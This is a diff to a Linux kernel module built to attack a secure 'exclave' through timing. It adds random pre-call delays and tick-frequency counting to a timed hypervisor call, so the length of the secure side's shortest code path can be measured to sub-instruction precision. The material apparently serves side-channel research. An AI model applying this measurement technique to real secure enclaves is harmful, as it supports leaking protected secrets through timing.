@@ -19,6 +19,7 @@
 #include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/notifier.h>
+#include <linux/prandom.h>
 #include <linux/sched/task.h>
 #include <linux/slab.h>
 #include <linux/uaccess.h>
@@ -495,8 +496,8 @@ static void call(struct exclave_attack *attack)
     attack->out[3] = result.a3;
 }
 
-/* From the counter read before the HVC to the one after it: two instructions more than the secure side's own. */
-static u64 timed_hvc(u64 regs[4])
+/* From the counter read before the HVC to the one after it. The counter has ticks of many instructions: a delay moves their phase. */
+static u64 timed_hvc(u64 regs[4], u64 delay)
 {
     register u64 x0 asm("x0") = regs[0];
     register u64 x1 asm("x1") = regs[1];
@@ -510,13 +511,15 @@ static u64 timed_hvc(u64 regs[4])
     register u64 end asm("x21");
 
     asm volatile(
+        "1: subs    %[delay], %[delay], #1\n"
+        "   b.pl    1b\n"
         "   isb\n"
         "   mrs     x20, cntvct_el0\n"
         "   hvc     #0\n"
         "   mrs     x21, cntvct_el0\n"
-        : "+r"(x0), "+r"(x1), "+r"(x2), "+r"(x3), "+r"(x4), "+r"(x5), "+r"(x6), "+r"(x7), "=&r"(begin), "=&r"(end)
+        : [delay] "+r"(delay), "+r"(x0), "+r"(x1), "+r"(x2), "+r"(x3), "+r"(x4), "+r"(x5), "+r"(x6), "+r"(x7), "=&r"(begin), "=&r"(end)
         :
-        : "x8", "x9", "x10", "x11", "x12", "x13", "x14", "x15", "x16", "x17", "memory");
+        : "x8", "x9", "x10", "x11", "x12", "x13", "x14", "x15", "x16", "x17", "cc", "memory");
     regs[0] = x0;
     regs[1] = x1;
     regs[2] = x2;
@@ -524,9 +527,15 @@ static u64 timed_hvc(u64 regs[4])
     return end - begin;
 }
 
+/*
+ * With the phase of the tick spread evenly, calls of one length measure n or n + 1 ticks, in a proportion that is the length's fraction:
+ * how often each was seen gives the length of the shortest path to a fraction of an instruction.
+ */
 static void timed_call(struct exclave_attack *attack)
 {
     u64 least = U64_MAX;
+    u64 at_least = 0;
+    u64 at_next = 0;
     u64 sum = 0;
     u64 interrupted = 0;
     u64 regs[4] = { 0 };
@@ -537,24 +546,33 @@ static void timed_call(struct exclave_attack *attack)
         u64 ticks;
 
         memcpy(regs, attack->in, sizeof(regs));
-        ticks = timed_hvc(regs);
+        ticks = timed_hvc(regs, prandom_u32_max(64));
         while (regs[0] == RPC_FOREIGN_INTERRUPT) {
             whole = false;
             cond_resched();
             regs[0] = RETURN_FROM_RPC;
-            ticks += timed_hvc(regs);
+            ticks += timed_hvc(regs, 0);
         }
         if (regs[0] != 0)
             break;
         sum += ticks;
         interrupted += !whole;
-        if (whole)
-            least = min(least, ticks);
+        if (!whole)
+            continue;
+        if (ticks < least) {
+            at_next = ticks + 1 == least ? at_least : 0;
+            at_least = 0;
+            least = ticks;
+        }
+        at_least += ticks == least;
+        at_next += ticks == least + 1;
     }
     attack->out[0] = least;
     attack->out[1] = sum;
     attack->out[2] = interrupted;
     attack->out[3] = regs[0];
+    attack->out[4] = at_least;
+    attack->out[5] = at_next;
     attack->error = i == attack->in[4] ? 0 : -EIO;
 }
 
